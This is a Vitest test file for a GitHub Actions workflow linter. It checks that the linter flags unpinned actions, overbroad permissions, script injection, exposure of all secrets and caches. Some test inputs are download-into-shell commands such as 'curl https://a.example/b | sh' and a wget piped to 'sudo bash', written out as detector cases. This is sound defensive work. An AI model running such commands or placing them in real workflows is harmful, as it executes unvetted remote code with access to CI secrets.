import { describe, expect, it } from "vitest";
import { listFiles, readWorkflows, rootScripts } from "../src/checked-sources.mjs";
import { workflowProblems } from "../src/workflows.mjs";

const commit = "0123456789abcdef0123456789abcdef01234567";
const rights = `permissions:
      contents: read
      attestations: write
`;
const onEvents = `on:
  push:
  schedule:
    - cron: "17 3 * * *"
`;
const good = `name: Sample
${onEvents}permissions: {}
concurrency:
  group: sample
jobs:
  one:
    runs-on: ubuntu-24.04
    timeout-minutes: 5
    outputs:
      needed: \${{ steps.status.outputs.needed }}
    ${rights}    steps:
      - uses: actions/checkout@${commit} # v7.0.1
        with:
          persist-credentials: false
      - uses: ./.github/actions/setup
      - run: pnpm check
        env:
          TITLE: \${{ github.event.pull_request.title }}
          TOKEN: \${{ github.token || secrets.TOKEN }}
      - uses: actions/github-script@${commit} # v8.0.0
        with:
          script: core.info(process.env.TITLE)
      - run: pnpm --filter @keyhole/contract exec vitest run test/one.test.ts
      - id: status
        run: node tools/one.mjs status >> "$GITHUB_OUTPUT"
  two:
    needs: one
    if: needs.one.outputs.needed == 'true' && contains(github.ref, vars.NAME)
    runs-on: \${{ matrix.os }}
    timeout-minutes: 5
    strategy:
      matrix:
        os: [macos-15, windows-2025]
    steps:
      - run: pnpm check
`;

/** @param {string} text */
const problemsOf = (text) =>
  workflowProblems(
    new Map([[".github/workflows/sample.yml", text]]),
    ["check"],
    ["tools/one.mjs", "tools/contract/test/one.test.ts", ".github/actions/setup/action.yml"],
    { "sample.yml one": "attestations" },
  );

describe("workflowProblems", () => {
  it("accepts a good workflow, and those of this repository", async () => {
    expect(await problemsOf(good)).toEqual([]);
    expect(readWorkflows().size).toBeGreaterThan(0);
    expect(await workflowProblems(readWorkflows(), rootScripts(), listFiles())).toEqual([]);
  });

  it.each([
    ["a tag in place of a commit", `@${commit} # v7.0.1`, "@v7", "@v7"],
    ["a commit without its version", ` # v7.0.1`, "", commit],
    ["a shortened commit", commit, commit.slice(0, 12), commit.slice(0, 12)],
    ["every right at the top", "permissions: {}", "permissions: write-all", "permissions: {}"],
    ["every right of a job", rights, "permissions: write-all\n", "write-all"],
    ["every right to read", rights, "permissions: read-all\n", "read-all"],
    ["rights at the top", "permissions: {}", "permissions:\n  contents: write", "permissions: {}"],
    ["no rights at the top", "permissions: {}\n", "", "permissions: {}"],
    ["no concurrency", "concurrency:\n  group: sample\n", "", "concurrency"],
    ["no timeout", "    timeout-minutes: 5\n", "", "timeout"],
    ["credentials that stay", "persist-credentials: false", "fetch-depth: 0", "credentials"],
    ["an event with the rights of the base", "  push:", "  pull_request_target:", "_target"],
    ["such an event in a list", onEvents, "on: [push, workflow_run]\n", "workflow_run"],
    ["an expression in a script", "run: pnpm check", "run: echo ${{ github.ref }}", "expression"],
    ["an expression in JavaScript", "process.env.TITLE", "`${{ inputs.title }}`", "expression"],
    ["a script that doesn't exist", "pnpm check", "pnpm missing", "pnpm missing"],
    ["a script behind an option", "pnpm check", "pnpm --silent run missing", "pnpm missing"],
    [
      "a script of an action's",
      "script: core",
      "version: pnpm missing\n          script: core",
      "missing",
    ],
    ["a test that doesn't exist", "test/one", "test/two", "test/two.test.ts"],
    ["a program that doesn't exist", "tools/one", "tools/two", "tools/two.mjs"],
    ["an unknown key", "    timeout-minutes", "    timeout: 5\n    timeout-minutes", "'timeout'"],
    ["an unknown right", "contents: read", "content: read", "'content'"],
    ["all secrets as JSON", "secrets.TOKEN", "toJSON(secrets)", "secret"],
    ["all secrets in another case", "secrets.TOKEN", "tojson( Secrets )", "secret"],
    ["all secrets in a list", "secrets.TOKEN", "join(secrets.*)", "secret"],
    ["a secret that the run chooses", "secrets.TOKEN", "secrets[github.ref_name]", "secret"],
    ["all secrets", "    timeout-minutes", "    secrets: inherit\n    timeout-minutes", "secret"],
    ["a right that isn't listed", "contents: read", "contents: write", "attestations, contents"],
    ["a listed right that isn't used", "      attestations: write\n", "", "write nothing"],
    ["a cache", "actions/github-script@", "actions/cache/restore@", "must not reach"],
    [
      "a cache of an action's",
      "script: core",
      "cache: pnpm\n          script: core",
      "must not reach",
    ],
    [
      "a download into a shell",
      "run: pnpm check",
      "run: curl https://a.example/b | sh",
      "download",
    ],
    [
      "a download into a shell, on two lines",
      "run: pnpm check",
      "run: |\n          wget -qO- https://a.example/b \\\n            | sudo bash",
      "download",
    ],
    [
      "a download as a shell's argument",
      "run: pnpm check",
      'run: bash -c "$(curl https://a.example/b)"',
      "download",
    ],
    ["an output that no step has", "steps.status", "steps.stat", '"stat"'],
    ["an output that no job has", "needs.one.outputs.needed", "needs.one.outputs.need", '"need"'],
    ["a context that doesn't exist", "github.event", "githb.event", '"githb"'],
    ["a matrix's key that doesn't exist", "matrix.os }}", "matrix.o }}", '"o"'],
    [
      "an expression that isn't closed",
      "contains(github.ref, vars.NAME)",
      "contains(",
      "unexpected end",
    ],
    ["a time that doesn't exist", "17 3 * * *", "17 25 * * *", "17 25 * * *"],
    ["a runner that doesn't exist", "ubuntu-24.04", "ubuntu-2404", "ubuntu-2404"],
    ["a runner of a matrix that doesn't exist", "windows-2025", "windows-2205", "windows-2205"],
    [
      "a runner that an entry adds",
      "os: [",
      "include: [{ os: mac }]\n        os: [",
      "runs on mac,",
    ],
    ["a runner without its version", "ubuntu-24.04", "ubuntu-latest", "ubuntu-latest"],
    ["an action that doesn't exist", "actions/setup\n", "actions/set-up\n", "actions/set-up"],
  ])("reports %s", async (_, from, to, problem) => {
    expect(good).toContain(from);
    expect((await problemsOf(good.replace(from, to))).join("\n")).toContain(problem);
  });

  it.each([
    ["broken YAML", "permissions: {}", "permissions: {"],
    ["an unknown alias", "permissions: {}", "permissions: *none"],
    ["a key that is there twice", "permissions: {}", "permissions: {}\npermissions: {}"],
    ["an empty job", "jobs:\n", "jobs:\n  none:\n"],
  ])("reports %s in one sentence", async (_, from, to) => {
    expect(await problemsOf(good.replace(from, to))).toEqual([
      expect.stringMatching(/^\.github\/workflows\/sample\.yml isn't valid .+\.$/),
    ]);
  });

  it("reports what an action of this repository uses and runs", async () => {
    const action = `name: Sample
description: Sample
runs:
  using: composite
  steps:
    - uses: actions/setup-node@v7
    - shell: bash
      run: echo \${{ inputs.name }}
`;
    const problems = await workflowProblems(
      new Map([[".github/actions/a/action.yml", action]]),
      [],
      [],
    );
    expect(problems.join("\n")).toMatch(/@v7.*\n.*cache.*\n.*expression/);
  });
});
